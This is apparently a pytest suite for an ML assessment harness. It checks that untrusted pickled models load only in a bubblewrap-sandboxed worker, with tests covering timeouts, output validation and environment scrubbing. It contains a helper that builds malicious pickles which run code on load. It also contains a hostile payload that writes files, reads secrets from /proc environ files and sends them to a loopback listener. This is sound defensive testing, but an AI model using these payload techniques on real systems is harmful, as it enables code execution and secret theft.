"""The sandboxed worker: models that run code on load are loaded and called only in an isolated process.

Real parts throughout: real pickles of real scikit-learn models, a real bubblewrap sandbox, real worker
processes, a real TCP server on loopback. Tests that need bubblewrap are skipped with the reason when it
is absent, except under CI (`CI=true`), where its absence is a failure (`.ci/run` installs it).
"""
from __future__ import annotations

import io
import os
import pickle
import socketserver
import sys
import threading
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import cloudpickle
import joblib
import numpy as np
import pandas as pd
import pytest
from sklearn.compose import ColumnTransformer
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import OneHotEncoder

import harness
from harness.assessment import assess
from harness.check import Check, CheckContext, CheckOutput, Suite
from harness.datasets import ReferenceDataset, load_dataset
from harness.errors import ConfigError, ToolConfigError, ToolError
from harness.findings import Finding, Severity, Status
from harness.manifest import load_manifest
from harness.policy import Policy, load_policy
from harness.sandbox import (
    BWRAP_NOTE,
    FALLBACK_NOTE,
    FORCED_NOTE,
    ISOLATION_ENV,
    Limits,
    ModelSpec,
    SandboxedModel,
    WorkerException,
    bwrap_argv,
    bwrap_status,
    check_outputs,
    rebuild_exception,
)
from harness.tools import load_tool, site_of
from harness.tools.sandboxed import SandboxedTool
from harness.verdict import Verdict
from tests.conftest import MANIFEST, write_case

SECRET = "s3cr3t-" + uuid.uuid4().hex


def fallback_policy() -> Policy:
    """The default policy with the analyst's consent to the subprocess fallback: without it, a model that runs
    code on load is refused when bubblewrap is not used (issue 12, fail closed)."""
    p = load_policy()
    sandbox = {**p.settings.get("sandbox", {}), "allow_subprocess_fallback": True}
    return p.model_copy(update={"settings": {**p.settings, "sandbox": sandbox}})


def _dataset(folder: Path, n: int = 200, seed: int = 61) -> ReferenceDataset:
    _, card = write_case(folder, n=n, seed=seed)
    return load_dataset(str(card))


def _fitted(ds: ReferenceDataset) -> object:
    """A real pipeline with text columns, so the frame's types must survive the trip to the worker."""
    X = ds.frame[["sex", "race", "income"]]
    pre = ColumnTransformer([("cat", OneHotEncoder(), ["sex", "race"])], remainder="passthrough")
    return make_pipeline(pre, LogisticRegression(max_iter=500)).fit(X, ds.frame["approved"])


def _manifest(folder: Path, adapter: str) -> Path:
    p = folder / "tool.yaml"
    p.write_text(MANIFEST.format(id="t") + adapter)
    return p


def code_pickle(statements: str) -> bytes:
    """A pickle that, when loaded, runs `statements` and yields their variable `model`: what a hostile
    vendor can ship (pickle calls any importable callable on load; here `exec`)."""

    class Payload:
        def __reduce__(self) -> tuple[object, ...]:
            expr = "(exec(src, g := {'src': src}), g['model'])[1]"
            return eval, (expr, {"src": statements})

    return pickle.dumps(Payload())


def _pickle_tool(folder: Path, payload: bytes, extra: str = "", **kw: object) -> SandboxedTool:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "model.pkl").write_bytes(payload)
    m = load_manifest(_manifest(folder, f"adapter:\n  kind: pickle\n  path: model.pkl\n{extra}"))
    policy = kw.pop("policy", None)
    return SandboxedTool.from_config(m.adapter, site_of(m, policy=policy), **kw)  # type: ignore[arg-type]


# --- the model predicts in the worker as it does in process ---------------------------------------------


@pytest.mark.parametrize("fmt", ["pickle", "joblib", "cloudpickle"])
def test_sandboxed_model_predicts_exactly_as_in_process(tmp_path: Path, bwrap: None, fmt: str) -> None:
    ds = _dataset(tmp_path / "data")
    model = _fitted(ds)
    path = tmp_path / "vendor" / "model.bin"
    path.parent.mkdir()
    if fmt == "joblib":
        joblib.dump(model, path)
    else:
        path.write_bytes((cloudpickle if fmt == "cloudpickle" else pickle).dumps(model))
    m = load_manifest(_manifest(path.parent, f"adapter:\n  kind: pickle\n  path: model.bin\n  format: {fmt}\n"))
    tool = load_tool(m)
    try:
        assert isinstance(tool, SandboxedTool)
        assert tool.notes == [BWRAP_NOTE]
        assert tool.input_columns(ds) == ["sex", "race", "income"]  # the model's own fitted columns
        preds = tool.predict(ds)
        X = ds.frame[["sex", "race", "income"]]
        assert preds.labels.tolist() == model.predict(X).tolist()
        assert np.array_equal(preds.scores, model.predict_proba(X)[:, 1])
        # the same worker answers a second call on changed inputs (the counterfactual checks' path)
        changed = X.assign(sex="F").iloc[:7]
        again = tool.predict_frame(changed)
        assert again.labels.tolist() == model.predict(changed).tolist()
        assert np.array_equal(again.scores, model.predict_proba(changed)[:, 1])
    finally:
        tool.close()


def test_model_errors_come_back_typed_and_the_worker_keeps_serving(tmp_path: Path) -> None:
    ds = _dataset(tmp_path / "data")
    model = _fitted(ds)
    tool = _pickle_tool(tmp_path / "vendor", pickle.dumps(model), isolation="subprocess",
                        policy=fallback_policy())
    try:
        with pytest.raises(ToolError) as e:
            tool.predict_frame(ds.frame[["sex", "income"]])  # a column missing: sklearn's ValueError
        assert str(e.value).startswith("tool 't' raised ValueError during prediction (in the sandboxed worker): ")
        # the degradation suite tells a clear refusal from a crash by the cause's type and text
        assert type(e.value.__cause__) is ValueError
        assert "columns are missing: {'race'}" in str(e.value.__cause__)
        X = ds.frame[["sex", "race", "income"]].iloc[:5]
        assert tool.predict_frame(X).labels.tolist() == model.predict(X).tolist()
    finally:
        tool.close()


def test_unpickled_object_without_predict_is_refused(tmp_path: Path) -> None:
    tool = _pickle_tool(tmp_path, pickle.dumps({"not": "a model"}), isolation="subprocess",
                        policy=fallback_policy())
    ds = _dataset(tmp_path / "data", n=20)
    with pytest.raises(ToolError) as e:
        tool.predict(ds)
    msg = str(e.value)
    assert msg.startswith("tool 't': the model could not be loaded in the sandboxed worker: TypeError: the "
                          "unpickled object (type builtins.dict) has no predict method; the worker's stderr "
                          "ends with:\nTraceback")


def test_missing_model_file_is_a_config_error(tmp_path: Path) -> None:
    m = load_manifest(_manifest(tmp_path, "adapter:\n  kind: pickle\n  path: gone.pkl\n"))
    with pytest.raises(ToolConfigError) as e:
        load_tool(m)
    assert str(e.value) == f"model file {tmp_path / 'gone.pkl'} named by tool manifest 't' does not exist"


# --- a hostile pickle --------------------------------------------------------------------------------------


class _Counter(socketserver.BaseRequestHandler):
    connections: list[bytes]

    def handle(self) -> None:
        self.connections.append(self.request.recv(4096))


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    seen: list[bytes] = []
    handler = type("Handler", (_Counter,), {"connections": seen})
    server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_address[1], seen
    finally:
        server.shutdown()
        server.server_close()


HOSTILE = """
import os, socket, sys
from pathlib import Path
report = []
for target in TARGETS:
    try:
        Path(target).write_text("escaped")
        report.append(f"wrote {target}")
    except OSError as e:
        report.append(f"write {target}: {e}")
leak = os.environ.get("HARNESS_TEST_SECRET")
for pid in os.listdir("/proc"):
    if pid.isdigit() and not leak:
        try:
            env = open(f"/proc/{pid}/environ", "rb").read().decode(errors="replace")
        except OSError:
            continue
        leak = next((v.partition("=")[2] for v in env.split("\\0") if v.startswith("HARNESS_TEST_SECRET=")), None)
report.append(f"secret: {leak}")
try:
    with socket.create_connection(("127.0.0.1", PORT), timeout=3) as s:
        s.sendall(str(leak).encode())
    report.append("connected")
except OSError as e:
    report.append(f"connect: {e}")
print("; ".join(report), file=sys.stderr)
raise PermissionError("; ".join(report))
"""


def test_hostile_pickle_cannot_write_read_secrets_or_connect_under_bwrap(
        tmp_path: Path, bwrap: None, listener: tuple[int, list[bytes]], monkeypatch: pytest.MonkeyPatch) -> None:
    port, connections = listener
    monkeypatch.setenv("HARNESS_TEST_SECRET", SECRET)
    monkeypatch.delenv(ISOLATION_ENV, raising=False)
    in_tmp = tmp_path / "outside.txt"  # under the private /tmp of the sandbox
    on_disk = Path(sys.prefix) / f"escape-{uuid.uuid4().hex[:12]}.txt"  # the runtime: bound read-only
    statements = f"TARGETS = {[str(in_tmp), str(on_disk)]!r}\nPORT = {port}\n" + HOSTILE
    tool = _pickle_tool(tmp_path / "vendor", code_pickle(statements))
    ds = _dataset(tmp_path / "data", n=20)
    try:
        result = assess(load_manifest(tmp_path / "vendor" / "tool.yaml"), tool, [ds], [], load_policy())
    finally:
        tool.close()
        escaped = [p for p in (in_tmp, on_disk) if p.exists()]
        for p in escaped:
            p.unlink()
    time.sleep(0.2)  # let the server thread record a connection, had there been one
    assert escaped == []
    assert connections == []
    assert result.verdict is Verdict.ERROR
    msg = result.error["message"]  # type: ignore[index]
    assert msg.startswith("tool 't': the model could not be loaded in the sandboxed worker: PermissionError: ")
    assert f"write {on_disk}: [Errno 30] Read-only file system: '{on_disk}'" in msg
    assert f"wrote {in_tmp}" in msg  # it went to the sandbox's own /tmp, which is gone; asserted above
    assert "secret: None" in msg
    assert "connect: [Errno 111] Connection refused" in msg  # a network namespace of its own
    assert SECRET not in msg and SECRET not in str(result.to_dict())
    assert result.extra["tool_notes"] == [BWRAP_NOTE]
    assert [f.key for f in result.findings] == []  # isolated: no isolation finding


def test_without_a_sandbox_the_same_pickle_escapes(tmp_path: Path, listener: tuple[int, list[bytes]]) -> None:
    """The control for the test above (it could fail): the fallback only scrubs the environment, which is
    why it is recorded as a warning and an advisory finding."""
    port, connections = listener
    outside = tmp_path / "outside.txt"
    statements = f"TARGETS = {[str(outside)]!r}\nPORT = {port}\n" + HOSTILE
    tool = _pickle_tool(tmp_path / "vendor", code_pickle(statements), isolation="subprocess",
                        policy=fallback_policy())
    with pytest.raises(ToolError) as e:
        tool.predict_frame(pd.DataFrame({"x": [1]}))
    time.sleep(0.2)
    assert outside.read_text() == "escaped"
    assert connections == [b"None"]  # it connected; the environment it could see held no secret
    assert f"wrote {outside}; secret: None; connected" in str(e.value)


def test_fallback_scrubs_the_environment(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Without bubblewrap the worker still gets no secrets from the environment it inherits."""
    monkeypatch.setenv("HARNESS_TEST_SECRET", SECRET)
    monkeypatch.setenv("MLFLOW_TRACKING_TOKEN", SECRET)
    statements = """
import os
import numpy as np
class M:
    def predict(self, X):
        seen = [k for k in os.environ if "SECRET" in k or "TOKEN" in k]
        return np.array([",".join(sorted(os.environ)) + "|" + ",".join(seen)] * len(X))
model = M()
"""
    tool = _pickle_tool(tmp_path / "vendor", code_pickle(statements), isolation="subprocess",
                        policy=fallback_policy())
    try:
        labels = tool.predict_frame(pd.DataFrame({"x": [1, 2]})).labels
    finally:
        tool.close()
    names, _, seen = str(labels[0]).partition("|")
    assert seen == ""
    from harness import TELEMETRY_OFF

    assert set(names.split(",")) <= {"PATH", "HOME", "TMPDIR", "PYTHONPATH", "PYTHONDONTWRITEBYTECODE",
                                     "PYTHONNOUSERSITE", "MPLCONFIGDIR", "LC_ALL", "LANG", "LC_CTYPE", "TZ",
                                     *TELEMETRY_OFF}
    assert set(TELEMETRY_OFF) <= set(names.split(","))  # a vendor's pyfunc loading MLflow sends nothing either
    assert tool.notes == [FORCED_NOTE]


# --- the fallback is recorded and keeps the verdict from a clean PASS ------------------------------------


class _Agree(Check):
    name = "agree"

    def run(self, ctx: CheckContext) -> CheckOutput:
        same = float(np.mean(ctx.predictions.labels.astype(str) == ctx.frame["approved"].astype(str)))
        return CheckOutput(findings=[Finding(suite="probe", check="agree", metric="rate", status=Status.PASS,
                                             message=f"agreement {same:.3f}", value=same)])


class _Probe(Suite):
    name = "probe"

    def checks(self, ctx: CheckContext) -> list[Check]:
        return [_Agree()]


def test_subprocess_fallback_is_recorded_as_an_advisory_finding(tmp_path: Path, no_bwrap: None) -> None:
    ds = _dataset(tmp_path / "data")
    tool = _pickle_tool(tmp_path / "vendor", pickle.dumps(_fitted(ds)), policy=fallback_policy())
    manifest = load_manifest(tmp_path / "vendor" / "tool.yaml")
    try:
        result = assess(manifest, tool, [ds], [_Probe()], load_policy())
    finally:
        tool.close()
    assert tool.notes == [FALLBACK_NOTE]
    assert FALLBACK_NOTE == ("isolation: subprocess fallback (bwrap not available); the model's code ran with "
                             "the harness user's file-system and network access")
    assert result.extra["tool_notes"] == [FALLBACK_NOTE]
    iso = [f for f in result.findings if f.suite == "tool"]
    assert [(f.key, f.status, f.severity, f.policy_section) for f in iso] == [
        ("tool.isolation.sandbox", Status.FAIL, Severity.ADVISORY, "1.3")]
    assert result.verdict is Verdict.NEEDS_REVIEW
    assert result.reasons == [f"tool.isolation.sandbox FAIL: {FALLBACK_NOTE}"]
    # the record carries it too (assessment.json is rebuilt from this)
    assert result.to_dict()["extra"] == {"tool_notes": [FALLBACK_NOTE]}


def test_same_model_under_bwrap_passes_clean(tmp_path: Path, bwrap: None, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv(ISOLATION_ENV, raising=False)
    ds = _dataset(tmp_path / "data")
    tool = _pickle_tool(tmp_path / "vendor", pickle.dumps(_fitted(ds)))
    try:
        result = assess(load_manifest(tmp_path / "vendor" / "tool.yaml"), tool, [ds], [_Probe()], load_policy())
    finally:
        tool.close()
    assert result.verdict is Verdict.PASS
    assert [f.key for f in result.findings] == ["probe.agree.rate"]
    assert result.extra == {"tool_notes": [BWRAP_NOTE]}


def test_isolation_is_chosen_by_env_or_argument(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                               no_bwrap: None) -> None:
    spec = ModelSpec("pickle", tmp_path / "m.pkl")
    monkeypatch.setenv(ISOLATION_ENV, "subprocess")
    assert SandboxedModel(spec, name="t", allow_fallback=True).notes == [FORCED_NOTE]
    monkeypatch.setenv(ISOLATION_ENV, "bwrap")
    with pytest.raises(ToolError) as e:
        SandboxedModel(spec, name="t")
    assert str(e.value) == ("tool 't': bubblewrap isolation is required (HARNESS_SANDBOX=bwrap) but not available: "
                            "bwrap is not on PATH")
    with pytest.raises(ConfigError) as c:
        SandboxedModel(spec, name="t", isolation="docker")
    assert str(c.value) == "HARNESS_SANDBOX='docker' is not an isolation mode; use auto, bwrap or subprocess"


# --- timeouts and crashes --------------------------------------------------------------------------------


@pytest.mark.parametrize("isolation", ["subprocess", "bwrap"])
def test_a_hanging_model_is_killed_at_the_timeout(tmp_path: Path, isolation: str,
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    if isolation == "bwrap":
        ok, why = bwrap_status()
        if not ok and os.environ.get("CI") != "true":
            pytest.skip(f"bubblewrap is not usable here ({why})")
    pid_file = tmp_path / "vendor" / "pid"  # readable from the parent; written only without a sandbox
    statements = f"""
import os, time
try:
    open({str(pid_file)!r}, "w").write(str(os.getpid()))
except OSError:
    pass
time.sleep(600)
"""
    tool = _pickle_tool(tmp_path / "vendor", code_pickle(statements), extra="  timeout_s: 2\n",
                        isolation=isolation, policy=fallback_policy())
    with pytest.raises(ToolError) as e:
        tool.predict_frame(pd.DataFrame({"x": [1]}))
    assert str(e.value) == ("tool 't': the sandboxed worker did not finish loading the model within 2 s and was "
                            "killed; the worker wrote nothing on stderr")
    if isolation == "subprocess":
        pid = int(pid_file.read_text())
        with pytest.raises(ProcessLookupError):
            os.kill(pid, 0)


def test_a_model_that_hangs_while_predicting_is_killed_and_the_next_call_restarts(tmp_path: Path) -> None:
    statements = """
import time
import numpy as np
class M:
    def predict(self, X):
        if len(X) > 1:
            time.sleep(600)
        return np.zeros(len(X))
model = M()
"""
    tool = _pickle_tool(tmp_path, code_pickle(statements), extra="  timeout_s: 2\n", isolation="subprocess",
                        policy=fallback_policy())
    try:
        with pytest.raises(ToolError) as e:
            tool.predict_frame(pd.DataFrame({"x": [1, 2]}))
        assert str(e.value) == ("tool 't': the sandboxed worker did not finish predicting within 2 s and was "
                                "killed; the worker wrote nothing on stderr")
        assert tool.predict_frame(pd.DataFrame({"x": [1]})).labels.tolist() == [0.0]  # a fresh worker
    finally:
        tool.close()


def test_a_crashing_worker_is_a_tool_error_with_its_stderr(tmp_path: Path) -> None:
    statements = """
import os, sys
class M:
    def predict(self, X):
        print("vendor model: giving up", file=sys.stderr, flush=True)
        os._exit(7)
model = M()
"""
    tool = _pickle_tool(tmp_path, code_pickle(statements), isolation="subprocess",
                        policy=fallback_policy())
    try:
        with pytest.raises(ToolError) as e:
            tool.predict_frame(pd.DataFrame({"x": [1]}))
    finally:
        tool.close()
    assert str(e.value) == ("tool 't': the sandboxed worker exited with code 7 while predicting; the worker's "
                            "stderr ends with:\nvendor model: giving up")


def test_wrong_number_of_labels_is_refused(tmp_path: Path) -> None:
    statements = ("import numpy as np\nclass M:\n    def predict(self, X):\n        return np.zeros(len(X) + 1)\n"
                  "model = M()\n")
    tool = _pickle_tool(tmp_path, code_pickle(statements), isolation="subprocess",
                        policy=fallback_policy())
    try:
        with pytest.raises(ToolError) as e:
            tool.predict_frame(pd.DataFrame({"x": [1, 2, 3]}))
    finally:
        tool.close()
    assert str(e.value) == "tool 't' returned (4,) labels for 3 input rows; expected one per row"


# --- the parent's checks of what the worker wrote ----------------------------------------------------------


def _npz(**arrays: object) -> bytes:
    buf = io.BytesIO()
    np.savez(buf, **arrays)  # type: ignore[arg-type]
    return buf.getvalue()


def test_worker_output_is_read_without_unpickling() -> None:
    with pytest.raises(ToolError) as e:
        check_outputs(_npz(labels=np.array([{"a": 1}, None], dtype=object)), 2, "tool 't'")
    assert str(e.value) == ("tool 't': the worker's output is not a valid npz of plain arrays: Object arrays cannot "
                            "be loaded when allow_pickle=False")
    with pytest.raises(ToolError) as e:
        check_outputs(b"garbage", 2, "tool 't'")
    assert str(e.value).startswith("tool 't': the worker's output is not a valid npz of plain arrays: ")
    with pytest.raises(ToolError) as e:
        check_outputs(_npz(labels=np.array([1, 0]), scores=np.array([0.5, 1.5])), 2, "tool 't'")
    assert str(e.value) == "tool 't' returned 1 score(s) that are not in [0, 1]"
    with pytest.raises(ToolError) as e:
        check_outputs(None, 2, "tool 't'")
    assert str(e.value) == "tool 't': the worker wrote no readable output file"
    labels, scores = check_outputs(_npz(labels=np.array(["yes", "no"]), scores=np.array([0.25, 1.0])), 2, "x")
    assert labels.tolist() == ["yes", "no"] and scores.tolist() == [0.25, 1.0]


def test_exceptions_are_rebuilt_only_from_builtin_names() -> None:
    e = rebuild_exception("ValueError", "bad input")
    assert type(e) is ValueError and str(e) == "bad input"
    w = rebuild_exception("NotFittedError", "call fit first")
    assert type(w) is WorkerException and str(w) == "NotFittedError: call fit first"
    # names that are builtins but not exceptions, or not builtins at all, are never looked up further
    assert type(rebuild_exception("eval", "x")) is WorkerException
    assert type(rebuild_exception("os.system", "x")) is WorkerException


def test_bwrap_command_line_isolates(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HARNESS_TEST_SECRET", SECRET)
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    argv = bwrap_argv("bwrap", scratch, ["python", "-m", "harness.sandbox.worker", str(scratch)], needed=[])
    i = argv.index("--")
    opts = argv[:i]
    assert argv[i + 1:] == ["python", "-m", "harness.sandbox.worker", str(scratch)]
    assert opts[1:3] == ["--tmpfs", "/"]  # an empty root: nothing of the host unless bound below
    for flag in ("--unshare-all", "--die-with-parent", "--new-session", "--clearenv"):
        assert flag in opts
    assert opts[opts.index("--cap-drop") + 1] == "ALL"
    assert [opts[j + 1] for j, v in enumerate(opts) if v == "--tmpfs"] == ["/", "/tmp"]
    assert [opts[j + 1:j + 3] for j, v in enumerate(opts) if v == "--bind"] == [[str(scratch.resolve())] * 2]
    bound = [opts[j + 1] for j, v in enumerate(opts) if v == "--ro-bind"]
    assert all(opts[j + 1] == opts[j + 2] for j, v in enumerate(opts) if v == "--ro-bind")
    # only the runtime: never the whole host, /etc, /run, a home folder or the repository around `harness`
    assert "/" not in bound and not any(b.startswith(("/etc", "/run", "/var/run")) for b in bound)
    package = Path(harness.__file__).resolve().parent
    assert (str(package) in bound or package.is_relative_to(Path(sys.prefix).resolve())) and (
        str(package.parent) not in bound)  # a checkout's `harness` folder alone (an installed one is in the prefix)
    assert str(Path(sys.base_prefix).resolve()) in bound
    home = Path.home().resolve()
    assert str(home) not in bound and all(Path(b).is_relative_to(Path(sys.base_prefix).resolve())
                                          or Path(b).is_relative_to(Path(sys.prefix).resolve())
                                          or b in (str(package), "/usr/lib", "/usr/lib64", "/usr/lib32")
                                          or b.startswith("/lib")
                                          for b in bound)
    model = tmp_path / "vendor" / "model.pkl"
    model.parent.mkdir()
    model.write_bytes(b"x")
    with_model = bwrap_argv("bwrap", scratch, ["python"], needed=[model])
    j = with_model.index(str(model.resolve()))  # the model file alone, not its folder
    assert with_model[j - 1:j + 2] == ["--ro-bind", str(model.resolve()), str(model.resolve())]
    assert str(model.parent.resolve()) not in with_model
    env = {opts[j + 1]: opts[j + 2] for j, v in enumerate(opts) if v == "--setenv"}
    assert env["HOME"] == str(scratch) and env["TMPDIR"] == str(scratch)
    assert SECRET not in " ".join(argv)


def test_limits_apply_in_the_worker(tmp_path: Path) -> None:
    statements = """
import resource
import numpy as np
class M:
    def predict(self, X):
        return np.array([resource.getrlimit(r)[0] for r in (resource.RLIMIT_CPU, resource.RLIMIT_AS,
                                                              resource.RLIMIT_FSIZE, resource.RLIMIT_CORE)])
model = M()
"""
    (tmp_path / "m.pkl").write_bytes(code_pickle(statements))
    limits = Limits(cpu_s=120, memory_bytes=3 << 30, file_bytes=1 << 28)
    model = SandboxedModel(ModelSpec("pickle", tmp_path / "m.pkl"), name="t", isolation="subprocess",
                           limits=limits, allow_fallback=True)
    try:
        labels, _ = model.predict(pd.DataFrame({"x": range(4)}), 1)
    finally:
        model.close()
    assert labels.tolist() == [120, 3 << 30, 1 << 28, 0]


def test_worker_ends_when_closed_and_leaves_no_scratch(tmp_path: Path) -> None:
    (tmp_path / "m.pkl").write_bytes(code_pickle("import numpy as np\nclass M:\n    def predict(self, X):\n"
                                                 "        return np.ones(len(X))\nmodel = M()\n"))
    parent = tmp_path / "scratch"
    model = SandboxedModel(ModelSpec("pickle", tmp_path / "m.pkl"), name="t", isolation="subprocess",
                           scratch_parent=parent, allow_fallback=True)
    assert model.predict(pd.DataFrame({"x": [1, 2]}), 1)[0].tolist() == [1.0, 1.0]
    proc = model._proc
    assert proc is not None and len(list(parent.iterdir())) == 1
    model.close()
    assert proc.poll() == 0  # a clean exit on end of input
    assert list(parent.iterdir()) == []



VENDOR_REQUIREMENTS = ["scikit-learn", "numpy", "pandas"]  # the MLflow models' requirements.txt (not installed here)


@pytest.mark.slow
def test_mlflow_model_folder_is_loaded_with_pyfunc_in_the_sandbox(tmp_path: Path, bwrap: None,
                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    import mlflow.sklearn

    monkeypatch.delenv(ISOLATION_ENV, raising=False)
    ds = _dataset(tmp_path / "data")
    model = _fitted(ds)
    X = ds.frame[["sex", "race", "income"]]
    # requirements given, as a vendor may: MLflow would otherwise infer them in a process of its own (5 s)
    mlflow.sklearn.save_model(model, tmp_path / "vendor" / "model", pip_requirements=VENDOR_REQUIREMENTS)
    m = load_manifest(_manifest(tmp_path / "vendor", "adapter:\n  kind: mlflow\n  path: model\n"))
    tool = load_tool(m)
    try:
        assert tool.notes == [BWRAP_NOTE]  # type: ignore[attr-defined]
        preds = tool.predict(ds)
    finally:
        tool.close()  # type: ignore[attr-defined]
    assert preds.labels.tolist() == model.predict(X).tolist()
    assert np.array_equal(preds.scores, model.predict_proba(X)[:, 1])


def test_mlflow_adapter_needs_exactly_one_source(tmp_path: Path) -> None:
    with pytest.raises(ConfigError) as e:
        load_manifest(_manifest(tmp_path, "adapter:\n  kind: mlflow\n"))
    assert str(e.value).endswith(
        "has 1 problem(s):\n  - adapter (line 18): Value error, give exactly one of path (a model folder) or model_uri")
    m = load_manifest(_manifest(tmp_path, "adapter:\n  kind: mlflow\n  path: model\n"))
    with pytest.raises(ToolConfigError) as c:
        load_tool(m)
    assert str(c.value) == (f"MLflow model folder {tmp_path / 'model'} named by tool manifest 't' does not exist "
                            f"or has no MLmodel file")


@pytest.mark.slow
def test_mlflow_model_uri_is_downloaded_by_the_harness_then_loaded_in_the_sandbox(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The worker has no network (nor credentials): the pipeline fetches `runs:/...` from the store first, and
    the adapter, which never reaches the store, refuses a `model_uri` it is not handed the folder of."""
    import mlflow
    import mlflow.sklearn

    from harness.workflows.assess import local_model

    uri = f"sqlite:///{tmp_path / 'store' / 'mlflow.db'}"
    (tmp_path / "store").mkdir()
    monkeypatch.setenv("MLFLOW_TRACKING_URI", uri)
    ds = _dataset(tmp_path / "data")
    model = _fitted(ds)
    mlflow.set_tracking_uri(uri)
    exp = mlflow.create_experiment("vendor", artifact_location=(tmp_path / "store" / "artifacts").as_uri())
    with mlflow.start_run(experiment_id=exp) as run:
        mlflow.sklearn.log_model(model, name="model", pip_requirements=VENDOR_REQUIREMENTS)
    (tmp_path / "vendor").mkdir()
    m = load_manifest(_manifest(tmp_path / "vendor",
                                f"adapter:\n  kind: mlflow\n  model_uri: runs:/{run.info.run_id}/model\n"))
    with pytest.raises(ToolConfigError) as e:
        load_tool(m)
    assert str(e.value) == (f"tool manifest 't' names the MLflow model 'runs:/{run.info.run_id}/model', which is "
                            f"downloaded before the tool is built (harness.workflows.assess.local_model); "
                            f"pass the folder as model_folder")
    (tmp_path / "v2").mkdir()
    assert local_model(load_manifest(_manifest(tmp_path / "v2", "adapter:\n  kind: mlflow\n  path: model\n")),
                       uri, tmp_path / "unused") is None
    folder = local_model(m, uri, tmp_path / "download")
    assert folder is not None and folder.parent == tmp_path / "download"
    tool = load_tool(m, model_folder=folder)
    try:
        assert isinstance(tool, SandboxedTool)
        local = tool.model.spec.path
        assert (local / "MLmodel").is_file() and not str(local).startswith(str(tmp_path / "store"))
        preds = tool.predict(ds)
    finally:
        tool.close()
    X = ds.frame[["sex", "race", "income"]]
    assert preds.labels.tolist() == model.predict(X).tolist()
    assert np.array_equal(preds.scores, model.predict_proba(X)[:, 1])
